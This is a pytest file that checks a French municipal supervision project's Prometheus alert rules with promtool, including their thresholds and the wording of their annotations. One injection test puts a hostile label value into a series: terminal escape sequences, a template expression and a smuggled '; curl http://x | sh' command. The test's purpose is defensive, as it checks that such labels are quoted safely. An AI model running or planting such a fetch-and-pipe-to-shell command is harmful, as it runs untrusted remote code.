"""Each alert, by promtool: it holds beyond its bound alone, and says what the morning says."""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from creatic.supervision import alerts, figures

MINUTES = 5
MACHINE = {"machine": "gondecourt-connecteur", "profil": "tdt_connector", "commune": "gondecourt"}
WORDS = {"valeur", "age", "quand", "reste", "duree"}


@dataclass(frozen=True)
class Case:
    """What Prometheus scraped, and the alerts that hold at the end.

    Attributes:
        series: samples, in promtool's notation, one each `step` seconds.
        held: alerts by name, with what is said and what to do.
        silent: names of alerts that must not hold.
        of: labels of the alerts, beside the degree.
    """

    series: dict[str, str]
    held: dict[str, tuple[str, str]]
    silent: tuple[str, ...] = ()
    step: int = 60
    at: int = 6000
    of: dict[str, str] = field(default_factory=lambda: dict(MACHINE))


def braced(labels: dict[str, str]) -> str:
    return "{" + ", ".join(f'{name}="{text}"' for name, text in labels.items()) + "}" if labels else ""


def named() -> list[tuple[alerts.Alert, figures.Rule]]:
    """Alerts of figures, each with the rule that it comes from."""
    return list(zip(alerts.alerts(), figures.rules(), strict=False))


def sides(rule: figures.Rule) -> tuple[int, int, float, float, str]:
    """A step between samples and a time in seconds, a value that is wrong then, one that is right, another figure."""
    word, _, number = rule.condition.partition(" ")
    step, at = 60, 6000
    if word == "monte":
        return step, at, 3, 2, ""
    if word == "part":
        share, _, whole = number.partition(" de ")
        return step, at, float(share) * 1000 + 1, float(share) * 1000, whole
    if word == "age_de":
        return 3600, 360_000, 360_000 - 200_000, 360_000 - 90_000, number
    bound = float(number)
    if word == "age":
        step = max(60, int(bound / 20 / 60) * 60)
        age = max(bound + 3 * step, 172_800 if bound >= 86_400 else 7200)  # whole units, that both say alike
        at = (int(age / step) + 10) * step
        return step, at, at - age, at - bound + 60, ""
    if word == "reste":
        return step, at, at + 7200, at + bound + 60, ""
    wrong, right = {
        "sur": (3 * bound if bound >= 3600 else bound + 1, bound),
        "sous": (bound - 1, bound),
        "egal": (bound, 1 - bound),
    }[word]
    return step, at, wrong, right, ""


def made_by(name: str) -> dict[str, str]:
    """Labels of a machine that makes a figure."""
    profiles = figures.figure_specs()[name].profiles
    return MACHINE | {"profil": min(profiles)} if profiles else dict(MACHINE)


def cases_of(alert: alerts.Alert, rule: figures.Rule) -> Iterator[Case]:
    """A case where it holds and one where it does not; one where there is nothing to tell."""
    places = dict.fromkeys(sorted({*re.findall(r"\{(\w+)\}", rule.text + rule.fix)} - WORDS), "Mairie d'Anor")
    labels = places | dict(rule.labels)
    step, at, wrong, right, other = sides(rule)
    of = made_by(rule.name) | labels
    limit = 100_000 if rule.condition.startswith("age_de") else 1000

    def case(value: float, begun: float, *, holds: bool) -> Case:
        name = rule.name + braced(of)
        series = {name: f"{begun:.10g}x{max(at // step - 30, 1)} {value:.10g}x100"}
        known = f"{rule.name}{braced(labels)} {value:.10g}\n"
        if other:
            series[other + braced(of)] = f"{limit}x200"
            known += f"{other}{braced(labels)} {limit}\n"
        [key] = [one.key for one in figures.parse(known) if one.name == rule.name]
        told = [(text, fix) for grave, text, fix in figures.judge(figures.parse(known), {key: begun}, at)]
        # What the morning says of the same figure is what is expected.
        held = {alert.name: told[0]} if holds else {}
        assert bool(told) or not holds
        return Case(series, held, () if holds else (alert.name,), step, at, of)

    steady = rule.condition != "monte"
    yield case(wrong, wrong if steady else 2, holds=True)
    yield case(right, right if steady else 2, holds=False)
    if rule.unless_zero:
        yield case(0, 0, holds=False)


def series_cases() -> Iterator[Case]:
    """Those that only series tell."""
    seen, machine = "1x30", "la machine ne répond plus à la supervision"
    silent = {
        "machine_muette": (machine, "fab matin ; sur la machine, systemctl status prometheus-node-exporter"),
    }
    up = {"job": "machines"} | MACHINE
    yield Case({f"up{braced(up)}": f"{seen} 0x200"}, silent, of=up)
    yield Case({f"up{braced(up)}": f"{seen} 0x200"}, {}, ("machine_muette",), at=35 * 60)  # not for long enough
    yield Case({f"up{braced(up)}": "0x200"}, {}, ("machine_muette",))  # never deployed: the morning says it
    yield Case({f"up{braced(up)}": f"{seen} _x200"}, {}, ("machine_muette",))  # it left the inventory
    desk = up | {"profil": "commune_pc"}
    yield Case({f"up{braced(desk)}": f"{seen} 0x200"}, {}, ("machine_muette",))  # people switch it off
    watch = MACHINE | {"file": "/var/lib/creatic/metrics/machine.prom"}
    told = (
        "la machine ne dit plus comment elle va depuis 2 h",
        "systemctl status creatic-machine.timer creatic-machine.service sur la machine",
    )
    mtime = f"node_textfile_mtime_seconds{braced(watch)}"
    yield Case({mtime: "1x600"}, {"machine_ne_se_regarde_plus": told}, at=7260)
    yield Case({mtime: "1x600"}, {}, ("machine_ne_se_regarde_plus",), at=3600)
    clock = f"node_time_seconds{braced(MACHINE)}"
    told = ("horloge à 2 h de celle de la supervision", "chronyc tracking sur la machine")
    yield Case({clock: "7200+60x200"}, {"horloge_decalee": told})
    yield Case({clock: "60+60x200"}, {}, ("horloge_decalee",))
    unread = f"node_textfile_scrape_error{braced(MACHINE)}"
    told = ("des mesures de la machine sont illisibles", "ls -l /var/lib/creatic/metrics sur la machine")
    yield Case({unread: "1x200"}, {"mesures_illisibles": told})
    yield Case({unread: "0x200"}, {}, ("mesures_illisibles",))
    page = MACHINE | {"job": "pages", "instance": "https://ged.test"}
    told = (
        "« https://ged.test » ne répond plus, ou plus avec son certificat",
        "fab matin ; sur la machine, systemctl status nginx",
    )
    yield Case({f"probe_success{braced(page)}": "0x200"}, {"page_muette": told}, of=page)
    yield Case({f"probe_success{braced(page)}": "1x200"}, {}, ("page_muette",))
    told = (
        "« https://ged.test » montre un certificat qui ne vaut plus que 13 jours",
        "fab pki.rotation ; s'il est renouvelé, sur la machine, systemctl reload nginx",
    )
    ends = f"probe_ssl_earliest_cert_expiry{braced(page)}"
    yield Case({ends: f"{6000 + 13 * 86400 + 60}x200"}, {"certificat_montre": told}, of=page)
    yield Case({ends: f"{6000 + 15 * 86400}x200"}, {}, ("certificat_montre",))
    watcher = {"machine": "veille", "profil": "supervision"}
    mail = watcher | {"job": "supervision", "integration": "email"}
    told = (
        "des courriels d'alerte n'ont pas pu partir à temps",
        "le relais de courriel répond-il ? sur la machine, journalctl -u prometheus-alertmanager",
    )
    yield Case(
        {f"alertmanager_notifications_failed_total{braced(mail)}": "0+1x200"}, {"courriels_en_echec": told}, of=watcher
    )
    yield Case({f"alertmanager_notifications_failed_total{braced(mail)}": "4x200"}, {}, ("courriels_en_echec",))
    missed = f"prometheus_rule_group_iterations_missed_total{braced(watcher | {'job': 'supervision'})}"
    told = (
        "30 passages des règles d'alerte n'ont pas été faits en une demi-heure",
        "la machine de supervision est trop petite : processeur, mémoire, disque",
    )
    yield Case({missed: "0+1x200"}, {"supervision_chargee": told}, of=watcher)
    yield Case({missed: "9x200"}, {}, ("supervision_chargee",))
    added = f"scrape_series_added{braced(up)}"
    told = (
        "6100 séries de mesures nouvelles en une heure : la machine change sans cesse ce qu'elle dit, ou ment",
        "sur la machine, ls -l /var/lib/creatic/metrics ; fab supervision.taire si c'est annoncé",
    )
    yield Case({added: "100x200"}, {"series_changeantes": told}, of=up)
    yield Case({added: "20x200"}, {}, ("series_changeantes",))
    told = ("la supervision envoie ses alertes", "rien ; si ce courriel manque un jour, fab matin dit pourquoi")
    yield Case({clock: "60+60x200"}, {"temoin": told}, of={})


def every_case() -> list[Case]:
    return [case for alert, rule in named() for case in cases_of(alert, rule)] + list(series_cases())


def file_of(alert: str) -> str:
    return f"seule-{re.sub(r'[^a-z_0-9]', '-', alert)}.yml"


def as_promtool(case: Case, whole: str = "regles.yml") -> dict[str, Any]:
    """A case as promtool reads it, on the whole file of rules, or on that of its alerts alone: it takes less time."""
    names = (*case.held, *case.silent)
    known = {one.name: one for one in alerts.alerts()}
    wanted = []
    for name in (*case.held, *case.silent):
        text, fix = case.held.get(name, ("", ""))
        labels = case.of | {"degre": known[name].degree}
        expected = [{"exp_labels": labels, "exp_annotations": {"dit": text, "faire": fix}}] if text else []
        wanted.append({"eval_time": f"{case.at}s", "alertname": name, "exp_alerts": expected})
    return {
        "rule_files": [whole] if whole else [file_of(one) for one in names],
        "evaluation_interval": f"{case.step}s",
        "tests": [
            {
                "interval": f"{case.step}s",
                "input_series": [{"series": name, "values": values} for name, values in case.series.items()],
                "alert_rule_test": wanted,
            }
        ],
    }


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("regles")
    whole = alerts.rules_file(MINUTES)
    (made / "regles.yml").write_text(yaml.safe_dump(whole, allow_unicode=True), encoding="utf-8")
    [seen, told] = whole["groups"]
    for rule in told["rules"]:
        alone = {"groups": [seen, told | {"rules": [rule]}]}
        (made / file_of(rule["alert"])).write_text(yaml.safe_dump(alone, allow_unicode=True), encoding="utf-8")
    return made


def promtool(folder: Path, *words: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["promtool", *words], cwd=folder, capture_output=True, text=True, check=False)


def test_prometheus_takes_the_rules(folder: Path) -> None:
    done = promtool(folder, "check", "rules", "--lint-fatal", "regles.yml")
    assert done.returncode == 0, done.stdout + done.stderr


def test_each_alert_holds_beyond_its_bound_only_and_says_what_the_morning_says(folder: Path) -> None:
    names = []
    for number, case in enumerate(every_case()):
        names.append(f"essai{number:03}.yml")
        (folder / names[-1]).write_text(yaml.safe_dump(as_promtool(case, ""), allow_unicode=True), encoding="utf-8")
    done = promtool(folder, "test", "rules", *names)
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.count("SUCCESS") == len(names)


def test_each_alert_has_a_case_where_it_holds_and_one_where_it_does_not() -> None:
    cases = every_case()
    names = [one.name for one in alerts.alerts()]
    assert len({*names}) == len(names) > 60
    assert {name for case in cases for name in case.held} == {*names}
    assert {name for case in cases for name in case.silent} == {*names} - {"temoin"}


def test_a_case_that_does_not_hold_fails(folder: Path) -> None:
    """So that what the test above says is worth something."""
    alert, rule = named()[0]
    wrong, right, *_more = cases_of(alert, rule)
    for series, case in ((right.series, wrong), (wrong.series, right)):
        swapped = Case(series, case.held, case.silent, case.step, case.at, case.of)
        (folder / "faux.yml").write_text(yaml.safe_dump(as_promtool(swapped, ""), allow_unicode=True), encoding="utf-8")
        assert promtool(folder, "test", "rules", "faux.yml").returncode != 0


def test_the_gravest_rule_of_a_figure_is_told_alone(folder: Path) -> None:
    labels = {"nom": "tdt", "titulaire": "Connecteur"}
    of = MACHINE | labels
    name = "creatic_certificate_days_left"
    for days, held in ((12, "sous_30"), (45, "sous_60"), (75, "sous_90"), (91, "")):
        told = (
            {f"{name}:{held}": (f"certificat « Connecteur » : {days} jours", fix_of(f"{name}:{held}"))} if held else {}
        )
        others = tuple(one for one in (f"{name}:sous_{bound}" for bound in (30, 60, 90)) if one not in told)
        case = Case({name + braced(of): f"{days}x200"}, told, others, of=of)
        # Among all the rules once; the others among those of the figure, which alone are asked about.
        written = as_promtool(case, "regles.yml" if days == 12 else "")
        (folder / "grave.yml").write_text(yaml.safe_dump(written, allow_unicode=True), encoding="utf-8")
        done = promtool(folder, "test", "rules", "grave.yml")
        assert done.returncode == 0, done.stdout + done.stderr


def fix_of(name: str) -> str:
    [found] = [one.fix for one in alerts.alerts() if one.name == name]
    return found


def test_a_label_is_a_word_whatever_the_machine_put_there(folder: Path) -> None:
    """No line of its own in a mail, no template."""
    hostile = "a »\n\x1b[2J\u202e{{ $value }}<b> ; curl http://x | sh"
    of = made_by("creatic_depot_suspect") | {"client": hostile}
    fix = "fab sauvegarde.etat, puis fab sauvegarde.revenir pour cette machine"
    told = (f"sauvegardes de {figures.quoted(hostile)} effacées ou remplacées", fix)
    case = Case({}, {"creatic_depot_suspect:egal_1": told}, of=of)
    written = as_promtool(case)
    series = "creatic_depot_suspect{" + ", ".join(f"{key}={json.dumps(text)}" for key, text in of.items()) + "}"
    written["tests"][0]["input_series"] = [{"series": series, "values": "1x200"}]
    (folder / "hostile.yml").write_text(yaml.safe_dump(written, allow_unicode=True), encoding="utf-8")
    done = promtool(folder, "test", "rules", "hostile.yml")
    assert done.returncode == 0, done.stdout + done.stderr


def test_a_condition_that_is_none_is_refused() -> None:
    with pytest.raises(ValueError, match="n'est pas une condition"):
        alerts.expression(figures.Rule("a", "plus que 3", "", ""))


def test_what_is_to_be_told_takes_the_minutes_that_it_is_given() -> None:
    known = {one.name: one for one in alerts.alerts()}
    assert known["creatic_aide_differences:sur_0"].rule(7)["for"] == "7m"
    assert known["machine_muette"].rule(7)["for"] == "15m"
    assert "for" not in known["temoin"].rule(7)
